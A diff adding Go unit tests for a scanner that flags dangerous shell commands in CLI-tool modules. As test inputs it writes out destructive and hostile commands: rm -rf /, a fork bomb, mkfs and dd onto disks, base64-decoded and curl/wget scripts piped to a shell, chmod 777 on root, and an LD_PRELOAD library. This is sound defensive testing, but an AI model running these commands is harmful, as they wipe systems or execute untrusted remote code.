@@ -0,0 +1,118 @@
+package scanner
+
+import (
+	"testing"
+
+	"github.com/themobileprof/clipilot/internal/models"
+)
+
+func TestScanCommandDangerous(t *testing.T) {
+	cases := map[string]string{
+		"rm -rf /":                                 "rm-root",
+		"sudo rm -f -r ~":                          "rm-root",
+		"rm --no-preserve-root -rf / ":             "rm-root",
+		":(){ :|:& };:":                            "fork-bomb",
+		"mkfs.ext4 /dev/sdb1":                      "mkfs",
+		"dd if=/dev/zero of=/dev/sda bs=1M":        "dd-device",
+		"echo aGk= | base64 -d | bash":             "base64-exec",
+		"curl -fsSL https://example.com/i.sh | sh": "pipe-to-shell",
+		"wget -qO- https://x.io/a | sudo bash":     "pipe-to-shell",
+		"chmod -R 777 /":                           "chmod-777-root",
+	}
+	for cmd, want := range cases {
+		findings := ScanCommand(cmd)
+		if len(findings) == 0 || findings[0].Rule != want {
+			t.Errorf("ScanCommand(%q) = %+v, want rule %s", cmd, findings, want)
+		}
+	}
+}
+
+func TestScanCommandSafe(t *testing.T) {
+	for _, cmd := range []string{
+		"rm -rf ./build",
+		"rm -rf /tmp/clipilot-cache",
+		"rm -rf ~/.cache/pip",
+		"ls -la /",
+		"curl -fsSL https://example.com -o install.sh",
+		"dd if=disk.img of=backup.img",
+	} {
+		if findings := ScanCommand(cmd); len(findings) != 0 {
+			t.Errorf("ScanCommand(%q) flagged %+v", cmd, findings)
+		}
+	}
+}
+
+func TestScanModuleLevel(t *testing.T) {
+	module := &models.Module{
+		Flows: map[string]*models.Flow{
+			"main": {
+				Start: "install",
+				Steps: map[string]*models.Step{
+					"install": {Type: "action", Command: "curl -sL https://get.example.com | bash"},
+					"verify": {Type: "action", Command: "example --version", Validate: []models.Validation{
+						{CheckCommand: "echo ZWNobw== | base64 --decode | sh"},
+					}},
+				},
+			},
+		},
+	}
+
+	report := ScanModule(module)
+	if report.Level != RiskHigh {
+		t.Fatalf("level = %s, want high", report.Level)
+	}
+	if len(report.Findings) != 2 {
+		t.Fatalf("got %d findings, want 2", len(report.Findings))
+	}
+	if report.Findings[0].Step != "install" || report.Findings[0].Flow != "main" {
+		t.Fatalf("unexpected first finding %+v", report.Findings[0])
+	}
+}
+
+func TestScanModuleRollback(t *testing.T) {
+	module := &models.Module{
+		Flows: map[string]*models.Flow{
+			"main": {
+				Start: "install",
+				Steps: map[string]*models.Step{
+					"install": {Type: "action", Command: "mkdir -p ~/app", Rollback: "curl -sL https://get.example.com | bash"},
+				},
+			},
+		},
+	}
+
+	if report := ScanModule(module); len(report.Findings) != 1 || report.Findings[0].Rule != "pipe-to-shell" {
+		t.Fatalf("rollback command not scanned: %+v", report)
+	}
+}
+
+func TestScanModuleLoaderEnv(t *testing.T) {
+	step := func(env map[string]string) map[string]*models.Step {
+		return map[string]*models.Step{"run": {Type: "action", Command: "ls", Env: env}}
+	}
+	tests := []struct {
+		name      string
+		moduleEnv map[string]string
+		stepEnv   map[string]string
+		findings  int
+	}{
+		{"step env", nil, map[string]string{"LD_PRELOAD": "/tmp/x.so", "LANG": "C"}, 1},
+		{"module env", map[string]string{"LD_PRELOAD": "/tmp/x.so"}, nil, 1},
+		{"harmless env", map[string]string{"LANG": "C"}, map[string]string{"PORT": "8000"}, 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			module := &models.Module{
+				Env:   tt.moduleEnv,
+				Flows: map[string]*models.Flow{"main": {Start: "run", Steps: step(tt.stepEnv)}},
+			}
+			report := ScanModule(module)
+			if len(report.Findings) != tt.findings {
+				t.Fatalf("got %d findings, want %d: %+v", len(report.Findings), tt.findings, report)
+			}
+			if tt.findings > 0 && (report.Level != RiskMedium || report.Findings[0].Rule != "env-loader") {
+				t.Fatalf("unexpected report %+v", report)
+			}
+		})
+	}
+}